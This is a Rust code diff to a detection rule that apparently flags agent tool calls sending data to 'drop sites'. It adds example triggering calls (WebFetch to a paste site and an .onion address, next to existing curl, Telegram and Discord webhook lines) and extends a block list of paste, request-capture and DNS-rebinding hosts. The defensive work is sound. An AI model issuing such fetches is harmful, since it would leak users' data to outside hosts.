@@ -30,6 +30,8 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "curl https://abc.webhook.site/x",
             "WebFetch https://pastebin.com/raw/x",
             "WebFetch https://oastify.com/?u=deploy",
+            "WebFetch https://rentry.co/x/raw",
+            "WebFetch http://abcdefghij234567.onion/",
             "WebFetch https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text=a",
             "WebFetch https://discord.com/api/webhooks/1/abc?content=a",
         ],
@@ -184,6 +186,19 @@ const DROP_SITES: &[&str] = &[
     "dnslog.cn",
     "ceye.io",
     "webhook.cool",
+    "rentry.co",
+    "dpaste.com",
+    "paste.rs",
+    "controlc.com",
+    "justpaste.it",
+    "privatebin.net",
+    "ghostbin.com",
+    "sprunge.us",
+    "rentry.org",
+    "hookb.in",
+    "onion",
+    "1u.ms",
+    "rbndr.us",
     "hookdeck.com",
     "beeceptor.com",
     "dpaste.org",
@@ -270,7 +285,7 @@ fn carries(text: &str, url: &Arg) -> bool {
 /// A tool that is not ours to know, given an address of a drop site.
 /// An address that has a message sent by being asked for.
 fn message_by_address<'a>(scene: &Scene<'a>) -> Found<'a> {
-    let Action::Fetch { url } = &scene.view.call.action else { return Found::No };
+    let Action::Fetch { url, .. } = &scene.view.call.action else { return Found::No };
     let sends = [
         ("api.telegram.org", "/send"),
         ("discord.com", "/api/webhooks/"),
